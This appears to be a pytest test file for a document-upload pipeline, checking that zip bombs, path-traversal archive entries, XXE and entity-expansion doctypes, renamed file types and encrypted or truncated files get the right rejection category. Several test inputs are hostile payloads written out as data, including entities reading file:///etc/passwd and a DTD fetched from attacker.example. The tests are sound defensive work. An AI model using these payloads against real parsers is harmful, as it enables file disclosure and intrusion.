"""Hostile and mislabelled uploads, built in the test: each gets its own rejection category.

None of these may reach python-docx, openpyxl or PDFium unchecked: the ZIP directory, the XML
prologs and the magic bytes are judged first.
"""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from fpdf import FPDF
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.extract import extract_document
from pipeline.rejections import DocumentRejected, RejectionCategory
from pipeline.sniff import sniff
from pipeline.zipguard import ZipLimits

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _docx_bytes(text: str = "Bonjour le jury, voici mon dossier.") -> bytes:
    document = docx.Document()
    document.add_heading("1. Analyse", level=1)
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rewrite(
    data: bytes, changes: dict[str, bytes], extra: dict[str, bytes] | None = None
) -> bytes:
    """Copy an archive, replacing some parts and adding others."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, changes.get(info.filename, src.read(info)))
        for name, body in (extra or {}).items():
            dst.writestr(name, body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _with_doctype(xml: bytes, declaration: bytes) -> bytes:
    head, sep, rest = xml.partition(b"?>")
    return head + sep + declaration + rest


def _category(data: bytes, filename: str, **kwargs) -> RejectionCategory:
    with pytest.raises(DocumentRejected) as caught:
        extract_document(data, filename, **kwargs)
    return caught.value.category


def test_valid_docx_is_accepted() -> None:
    assert sniff(_docx_bytes(), "dossier.docx").format == "docx"


def test_empty_file() -> None:
    assert _category(b"", "dossier.docx") is RejectionCategory.EMPTY


def test_too_large_input_is_refused_before_parsing() -> None:
    assert _category(_docx_bytes(), "dossier.docx", max_bytes=1000) is RejectionCategory.TOO_LARGE


def test_small_zip_bomb_by_compression_ratio() -> None:
    bomb = _rewrite(_docx_bytes(), {}, {"word/media/padding.bin": b"\0" * (20 * 1024 * 1024)})
    assert len(bomb) < 200_000
    assert _category(bomb, "dossier.docx") is RejectionCategory.ZIP_BOMB


def test_declared_sizes_over_the_limits_are_a_bomb() -> None:
    data = _docx_bytes()
    with pytest.raises(DocumentRejected) as caught:
        sniff(data, "dossier.docx", zip_limits=ZipLimits(max_total_bytes=10_000))
    assert caught.value.category is RejectionCategory.ZIP_BOMB
    with pytest.raises(DocumentRejected) as caught:
        sniff(data, "dossier.docx", zip_limits=ZipLimits(max_entries=3))
    assert caught.value.category is RejectionCategory.ZIP_BOMB


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/cron.d/x", "word/../../x.xml"])
def test_entry_names_escaping_the_archive(name: str) -> None:
    hostile = _rewrite(_docx_bytes(), {}, {name: b"<x/>"})
    assert _category(hostile, "dossier.docx") is RejectionCategory.ZIP_BOMB


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        b'<!doctype w PUBLIC "-//X//EN" "http://attacker.example/x.dtd">',
    ],
)
def test_doctype_or_entities_in_a_part_are_xxe(declaration: bytes) -> None:
    data = _docx_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml")
    hostile = _rewrite(data, {"word/document.xml": _with_doctype(xml, declaration)})
    assert _category(hostile, "dossier.docx") is RejectionCategory.XXE


def test_doctype_in_a_utf16_part_is_xxe() -> None:
    part = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "f">]><x/>'
    hostile = _rewrite(_docx_bytes(), {}, {"customXml/item9.xml": part.encode("utf-16")})
    assert _category(hostile, "dossier.docx") is RejectionCategory.XXE


def test_docx_renamed_pdf_is_wrong_type() -> None:
    assert _category(_docx_bytes(), "dossier.pdf") is RejectionCategory.WRONG_TYPE


def test_pdf_renamed_docx_is_wrong_type() -> None:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Bonjour")
    assert _category(bytes(pdf.output()), "dossier.docx") is RejectionCategory.WRONG_TYPE


def test_image_renamed_pdf_is_wrong_type() -> None:
    assert _category(PNG, "budget.pdf") is RejectionCategory.WRONG_TYPE


def test_plain_text_named_pdf_is_wrong_type() -> None:
    assert _category(b"Rapport de stage\n" * 10, "rapport.pdf") is RejectionCategory.WRONG_TYPE


def test_opendocument_text_is_unsupported() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as odt:
        odt.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        odt.writestr("content.xml", "<office:document-content/>")
    assert _category(out.getvalue(), "dossier.odt") is RejectionCategory.UNSUPPORTED_FORMAT
    assert _category(out.getvalue(), "dossier.docx") is RejectionCategory.UNSUPPORTED_FORMAT


@pytest.mark.parametrize("name", ["dossier.doc", "budget.xls"])
def test_old_binary_office_files_are_unsupported(name: str) -> None:
    assert _category(OLE2, name) is RejectionCategory.UNSUPPORTED_FORMAT


def test_password_protected_office_file_is_encrypted() -> None:
    protected = OLE2 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 64
    assert _category(protected, "dossier.docx") is RejectionCategory.ENCRYPTED


@pytest.mark.parametrize("name", ["dossier.rtf", "notes.txt", "dossier.pages"])
def test_unsupported_extensions(name: str) -> None:
    content = b"{\\rtf1 Bonjour}" if name.endswith(".rtf") else b"Bonjour " * 20
    assert _category(content, name) is RejectionCategory.UNSUPPORTED_FORMAT


def test_truncated_archive_is_corrupt() -> None:
    data = _docx_bytes()
    assert _category(data[: len(data) // 2], "dossier.docx") is RejectionCategory.CORRUPT


def test_archive_with_a_broken_main_part_is_corrupt() -> None:
    broken = _rewrite(_docx_bytes(), {"word/document.xml": b"<w:document><w:body>"})
    assert _category(broken, "dossier.docx") is RejectionCategory.CORRUPT


def test_truncated_pdf_is_corrupt() -> None:
    assert _category(b"%PDF-1.7\n1 0 obj <<", "rapport.pdf") is RejectionCategory.CORRUPT


def test_zip_that_is_no_office_document_is_unsupported() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", b"\xff\xd8\xff")
    assert _category(out.getvalue(), "dossier.docx") is RejectionCategory.UNSUPPORTED_FORMAT


def test_doctype_in_a_part_with_an_unusual_name_is_xxe() -> None:
    part = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    hostile = _rewrite(_docx_bytes(), {}, {"word/main.dat": part})
    assert _category(hostile, "dossier.docx") is RejectionCategory.XXE


def test_utf32_part_is_refused() -> None:
    part = '<?xml version="1.0" encoding="UTF-32"?><x/>'.encode("utf-32")
    hostile = _rewrite(_docx_bytes(), {}, {"customXml/item42.xml": part})
    assert _category(hostile, "dossier.docx") is RejectionCategory.CORRUPT


@settings(max_examples=150, deadline=None)
@given(
    st.one_of(st.binary(max_size=2048), st.binary(max_size=2048).map(lambda b: b"PK\x03\x04" + b)),
    st.sampled_from(["a.docx", "a.pdf", "a.xlsx", "a.odt", "a", "a.png"]),
)
def test_sniff_answers_any_bytes_with_a_format_or_a_rejection(data: bytes, name: str) -> None:
    try:
        assert sniff(data, name).format in {"docx", "pdf", "xlsx"}
    except DocumentRejected as rejected:
        assert rejected.message
